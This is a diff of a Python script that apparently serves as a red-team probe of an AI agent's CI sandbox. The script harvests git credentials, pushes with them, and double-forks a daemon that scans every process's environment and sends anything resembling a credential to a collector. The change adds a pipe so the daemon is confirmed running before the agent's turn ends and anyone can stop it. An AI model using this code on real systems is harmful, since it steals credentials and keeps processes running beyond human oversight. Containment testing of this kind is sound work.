@@ -18,7 +18,8 @@ way an attacker would carry it out. The script
   --show-origin`, every `git-credentials-*.config` under /github/runner_temp, and pushes
   to origin with whatever git finds;
 - starts a daemon (own session, double fork) whose command line holds MARKER, that keeps
-  reading every process's environ and sends what looks like a credential;
+  reading every process's environ and sends what looks like a credential, and waits until
+  the daemon has reported that it started;
 - prints a one-line JSON summary (what the model sees) and sends the whole report.
 """
 
@@ -105,10 +106,12 @@ def probe(collector: str) -> dict[str, Any]:
     return outcome
 
 
-def daemon(collector: str) -> None:
-    """The process left behind: reads every environ it can until it is killed."""
+def daemon(collector: str, started: int) -> None:
+    """The process left behind: reads every environ it can until it is killed. Once the
+    collector has its "daemon-started", it closes `started` (a pipe its starter waits on)."""
     sent: set[bytes] = set()
     send(collector, "daemon-started", str(os.getpid()).encode())
+    os.close(started)
     while True:
         for entry in os.scandir("/proc"):
             if not entry.name.isdigit() or entry.name == str(os.getpid()):
@@ -125,16 +128,25 @@ def daemon(collector: str) -> None:
 
 
 def leave_daemon(collector: str, marker: str) -> None:
-    """Double fork into a new session, so the daemon is nobody's child but init's."""
+    """Double fork into a new session, so the daemon is nobody's child but init's; return
+    once it has reported itself to the collector (or died), so that it is running before
+    the agent's turn can end and amelia can stop what the agent left."""
+    waiting, started = os.pipe()
     if os.fork() == 0:
+        os.close(waiting)
         os.setsid()
         if os.fork() == 0:
             devnull = os.open(os.devnull, os.O_RDWR)
             for descriptor in (0, 1, 2):
                 os.dup2(devnull, descriptor)
-            os.execv(sys.executable, [sys.executable, __file__, collector, "daemon", marker])
+            os.set_inheritable(started, True)
+            argv = [sys.executable, __file__, collector, "daemon", marker, str(started)]
+            os.execv(sys.executable, argv)
         os._exit(0)
+    os.close(started)
     os.wait()
+    os.read(waiting, 1)  # b"" once the daemon has closed its end (or exited)
+    os.close(waiting)
 
 
 def main(collector: str, image: str, marker: str) -> None:
@@ -181,6 +193,6 @@ def main(collector: str, image: str, marker: str) -> None:
 
 if __name__ == "__main__":
     if sys.argv[2] == "daemon":
-        daemon(sys.argv[1])
+        daemon(sys.argv[1], int(sys.argv[4]))
     else:
         main(sys.argv[1], sys.argv[2], sys.argv[3])
